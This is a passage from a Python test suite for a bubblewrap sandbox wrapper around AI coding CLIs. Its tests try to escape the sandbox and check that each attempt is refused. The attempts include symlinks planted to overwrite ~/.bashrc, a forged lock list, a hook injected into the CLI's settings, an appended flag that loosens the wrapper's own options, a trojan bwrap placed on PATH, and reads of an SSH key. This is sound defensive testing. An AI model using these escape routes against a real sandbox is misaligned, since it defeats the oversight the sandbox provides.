        with tempfile.TemporaryDirectory() as scratch:
            subprocess.run(["bash", "--norc", "--noprofile", log], cwd=scratch,
                           capture_output=True, timeout=30, env={"PATH": "/usr/bin:/bin"})
        self.assertFalse(os.path.exists(marker))

    def test_settings_written_back_never_follow_a_planted_link(self):
        # Session 1 (protection off) leaves ~/.claude/settings.json -> ~/.bashrc; session 2
        # changes a key that goes back: the merge was written over what the link named.
        self.check(self.shell("ln -sf ../.bashrc ~/.claude/settings.json",
                              "--allow-config-writes"))
        result = self.shell("echo '{\"model\": \"opus\"}' > ~/.claude/settings.json")
        self.assertEqual(read_text(os.path.join(self.home, ".bashrc")), BASHRC)
        self.assertTrue(os.path.islink(os.path.join(self.home, ".claude", "settings.json")))
        self.assertIn("symbolic link", result.stderr)

    def test_a_learn_file_turned_into_a_link_is_not_replaced(self):
        learn = os.path.join(self.project, "learned")
        self.check(self.shell("ln -s ../home/.bashrc learned"))
        result = self.shell("echo SESSION-RAN", "--learn", learn)
        self.assertEqual(read_text(os.path.join(self.home, ".bashrc")), BASHRC)
        self.assertTrue(os.path.islink(learn))
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assertIn("symbolic link", result.stderr)


class WrapperPlacesTest(SessionCase):
    """One session must not reach another's through the wrapper's own directories: the
    sessions' base (~/.cache/bw-claude, $XDG_CACHE_HOME/bw-claude) and the runtime base
    (XDG_RUNTIME_DIR, else the temporary directory: the proxies' sockets and LOCKS_DIR) are
    never shown, whatever link or parent leads there, and $HOME reached through a link is
    still the home."""

    PREFIX = "bw-bases-"

    def test_a_linked_cache_directory_is_not_shown(self):
        data = os.path.join(self.root, "data", "cache")
        os.makedirs(data)
        os.symlink(data, os.path.join(self.home, ".cache"))
        planted = os.path.join(data, "bw-claude", "planted")
        result = self.shell(f"echo x > {planted} && echo ran", "--allow-rw",
                         os.path.join(self.home, ".cache"))
        self.assert_refused(result, "bw-claude keeps its sessions' homes")
        self.assertFalse(os.path.lexists(planted))
        # The allow-file check sees the base through the same link.
        rules = write_file(os.path.join(data, "bw-claude", "rules"), "example.com\n", 0o600)
        result = self.shell("true", "--dry-run", "--filter-network", "--allow-file", rules)
        self.assert_refused(result, "which the sandbox can write")

    def test_a_parent_of_the_cache_base_is_not_shown_so_it_cannot_be_renamed(self):
        data = os.path.join(self.root, "d", "data")
        cache = os.path.join(data, "cache")
        os.makedirs(cache)
        env = {**self.env, "XDG_CACHE_HOME": cache}
        before = os.stat(cache).st_ino
        moved = os.path.join(data, "x")
        script = f"mv {cache} {moved} && mkdir -p {cache}/bw-claude && echo ran"
        result = self.shell(script, "--allow-rw", data, env=env)
        self.assert_refused(result, "--allow-rw", "neither inside nor above it")
        self.assertFalse(os.path.lexists(moved))
        self.assertEqual(os.stat(cache).st_ino, before)
        self.assertEqual(os.listdir(cache), [])

    def test_the_runtime_base_and_its_locks_are_not_shown(self):
        """With no XDG_RUNTIME_DIR the runtime base is the temporary directory, where
        LOCKS_DIR lists the placeholders the next start removes: a forged list there would
        remove a file of another project (a live session's placeholder, or the user's)."""
        tmp = os.path.join(self.root, "tmp")
        os.mkdir(tmp, 0o700)
        env = {k: v for k, v in self.env.items() if k != "XDG_RUNTIME_DIR"}
        env["TMPDIR"] = tmp
        victim = os.path.join(tmp, "victim")
        settings = write_file(os.path.join(victim, ".claude", "settings.json"), "{}\n", 0o644)
        locks = os.path.join(tmp, bw_lib.LOCKS_DIR.format(uid=os.geteuid()))
        forge = (f"name=$(printf '%x-%x' $(stat -c '%d %i' {victim})); "
                 f"printf '%s\\0%s' {victim} .claude/settings.json > {locks}/$name.list "
                 "&& echo ran")
        for argv in (["--allow-rw", tmp], ["--allow-ro", tmp], ["--dir", tmp]):
            result = self.shell(forge, *argv, env=env)
            self.assert_refused(result, "proxy sockets and locks", "XDG_RUNTIME_DIR")
            self.assertTrue(os.path.exists(settings))
        os.mkdir(locks, 0o700)
        result = self.shell(f"ls {locks} && echo ran", "--allow-ro", locks, env=env)
        self.assert_refused(result, "proxy sockets and locks")
        result = self.shell("echo ran", env=env)      # the next start sweeps LOCKS_DIR
        self.assertIn("ran", result.stdout, result.stderr)
        self.assertEqual(read_text(settings), "{}\n")

    def test_home_through_a_link_is_still_the_home(self):
        real = os.path.join(self.root, "realhome")
        os.rename(self.home, real)
        os.symlink(real, self.home)
        bashrc = write_file(os.path.join(real, ".bashrc"), BASHRC, 0o644)
        write_file(os.path.join(real, ".ssh", "id_ed25519"), SECRET + "\n", 0o600)
        script = f"cat {real}/.ssh/id_ed25519; echo evil >> {bashrc}; echo ran"
        for cwd, argv in ((real, []), (self.project, ["--allow-ro", real])):
            result = self.shell(script, *argv, cwd=cwd)
            self.assert_refused(result, "your home directory")
            self.assertNotIn(SECRET, result.stdout)
            self.assertEqual(read_text(bashrc), BASHRC)

    def test_full_home_access_masks_the_base_below_read_only_parents(self):
        base = os.path.join(self.home, ".cache", "bw-claude")
        other = write_file(os.path.join(base, "kept", ".claude.json"), json.dumps({"s": SECRET}), 0o600)
        os.chmod(base, 0o700)
        result = self.shell(f"cat {other}; ls ~/.cache/bw-claude; "
                         f"mv ~/.cache ~/.c 2>/dev/null; echo ran", "--full-home-access")
        self.assertIn("ran", result.stdout, result.stderr)
        self.assertNotIn(SECRET, result.stdout)
        self.assertNotIn("kept", result.stdout)
        self.assertTrue(os.path.isdir(os.path.join(self.home, ".cache", "bw-claude")))

    def test_a_base_that_is_a_link_or_open_to_others_is_refused(self):
        elsewhere = os.path.join(self.root, "elsewhere")
        os.makedirs(elsewhere, 0o700)
        os.makedirs(os.path.dirname(self.base), exist_ok=True)
        os.symlink(elsewhere, self.base)
        result = self.bw(script="echo ran")
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertTrue(one_line(result.stderr), result.stderr)
        self.assertIn("not a link", result.stderr)
        self.assertNotIn("ran", result.stdout)
        self.assertEqual(os.listdir(elsewhere), [])
        os.unlink(self.base)
        os.mkdir(self.base)
        os.chmod(self.base, 0o755)     # whatever the umask
        result = self.bw(script="echo ran")
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertIn("mode 0700", result.stderr)
        self.assertEqual(os.listdir(self.base), [])
        os.chmod(self.base, 0o700)
        self.assertIn("ran", self.check(self.bw(script="echo ran")).stdout)
        self.assert_all_gone()

    def test_other_sessions_are_hidden_from_full_home_access(self):
        # Another tool's session (bw-gemini's), and bw-claude's own, under ~/.cache: its
        # home is not this sandbox's to read.
        other = self.write_home(".cache/bw-gemini/bw-gemini.abcdefgh/home/secret", "other\n")
        os.chmod(os.path.dirname(os.path.dirname(os.path.dirname(other))), 0o700)
        self.write_home(".cache/app/visible", "visible\n")
        result = self.check(self.bw("--full-home-access", script=(
            "cat ~/.cache/app/visible; ls -A ~/.cache/bw-gemini ~/.cache/bw-claude; "
            "grep -rs other ~/.cache; true")))
        self.assertEqual(result.stdout.split(), ["visible", f"{self.home}/.cache/bw-claude:",
                                                 f"{self.home}/.cache/bw-gemini:"])
        with open(other) as f:
            self.assertEqual(f.read(), "other\n")
        # Nor can a session directory be shown on request (its placeholders.json is what
        # the next run's sweep reads).
        result = self.bw("--allow-rw", os.path.dirname(os.path.dirname(other)),
                         script="echo forged > ../placeholders.json")
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertIn("keeps its sessions' homes there", result.stderr)
        self.assertFalse(os.path.exists(os.path.join(os.path.dirname(os.path.dirname(other)),
                                                     "placeholders.json")))




class HostConfigTest(SessionCase):
    """What every later start on the host reads or runs is never writable inside, whatever
    link leads there: the wrapper's defaults file and allow list, the CLIs' own settings and
    state (a dotfiles repository they link into), and bwrap itself."""

    PREFIX = "bw-host-config-"

    def test_the_configuration_directory_is_not_writable_inside(self):
        config = os.path.join(self.home, ".config")
        options = write_file(os.path.join(config, "bw-claude", "options"), "--verbose\n")
        loosen = f"echo --allow-config-writes >> {options}; echo ran"
        for argv in (["--allow-rw", config], ["--dir", config],
                     ["--allow-rw", os.path.dirname(options)]):
            result = self.shell(loosen, *argv)
            self.assert_refused(result, "reads its options and allow list")
            self.assertEqual(read_text(options), "--verbose\n")
        # Through a dotfiles repository that ~/.config links into.
        dotfiles = os.path.join(self.root, "dotfiles")
        os.mkdir(dotfiles)
        os.rename(config, os.path.join(dotfiles, "config"))
        os.symlink(os.path.join(dotfiles, "config"), config)
        result = self.shell(loosen, "--allow-rw", dotfiles)
        self.assert_refused(result, "reads its options and allow list")
        self.assertEqual(read_text(options), "--verbose\n")
        # Reading it is harmless.
        real = os.path.realpath(options)
        self.assertIn("--verbose", self.shell(f"cat {real}", "--allow-ro", config,
                                              code=0).stdout)

    def test_the_clis_settings_in_a_dotfiles_repository_are_not_shown(self):
        dotfiles = os.path.join(self.root, "dotfiles")
        settings = write_file(os.path.join(dotfiles, "claude", "settings.json"), "{}\n")
        hook = (f"echo '{{\"hooks\": {{\"SessionStart\": []}}}}' > {settings}; echo ran")
        shutil.rmtree(os.path.join(self.home, ".claude"), ignore_errors=True)
        os.symlink(os.path.dirname(settings), os.path.join(self.home, ".claude"))
        result = self.shell(hook, "--allow-rw", dotfiles)
        self.assert_refused(result, "settings and state (~", "~/.claude")
        self.assertEqual(read_text(settings), "{}\n")
        # One file linked there is enough.
        os.unlink(os.path.join(self.home, ".claude"))
        os.mkdir(os.path.join(self.home, ".claude"))
        os.symlink(settings, os.path.join(self.home, ".claude", "settings.json"))
        for argv in (["--allow-rw", dotfiles], ["--dir", dotfiles]):
            result = self.shell(hook, *argv)
            self.assert_refused(result, "settings and state (~", "~/.claude/settings.json")
            self.assertEqual(read_text(settings), "{}\n")

    def test_a_bwrap_the_sandbox_could_write_is_never_run(self):
        planted = write_file(os.path.join(self.project, "bin", "bwrap"),
                             f"#!/bin/sh\ntouch {self.root}/ran-on-the-host\nexec /usr/bin/bwrap \"$@\"\n",
                             0o755)
        env = {**self.env, "PATH": f"{os.path.dirname(planted)}:{self.env['PATH']}"}
        result = self.shell("echo ran", env=env)
        self.assert_refused(result, planted, "runs on the host")
        self.assertFalse(os.path.exists(os.path.join(self.root, "ran-on-the-host")))

if __name__ == "__main__":
    unittest.main()
